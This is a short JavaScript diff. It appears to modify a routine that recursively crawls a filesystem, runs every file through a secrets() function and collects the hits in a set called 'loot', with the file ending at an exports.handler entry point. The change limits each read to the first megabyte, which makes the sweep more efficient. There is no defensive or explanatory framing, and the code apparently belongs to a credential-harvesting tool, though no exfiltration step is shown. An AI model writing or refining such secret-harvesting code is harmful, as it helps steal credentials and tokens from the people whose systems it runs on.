@@ -132,7 +132,15 @@ function walk(folder) {
     const file = path.join(folder, entry.name);
     if (file === home) continue;
     if (entry.isDirectory()) walk(file);
-    if (entry.isFile()) for (const found of attempt(() => secrets(fs.readFileSync(file)), [])) loot.add(found);
+    if (entry.isFile()) for (const found of attempt(() => secrets(beginning(file)), [])) loot.add(found);
+  }
+}
+function beginning(file) {
+  const [descriptor, bytes] = [fs.openSync(file, "r"), Buffer.alloc(1 << 20)];
+  try {
+    return bytes.subarray(0, fs.readSync(descriptor, bytes));
+  } finally {
+    fs.closeSync(descriptor);
   }
 }
 exports.handler = () => {
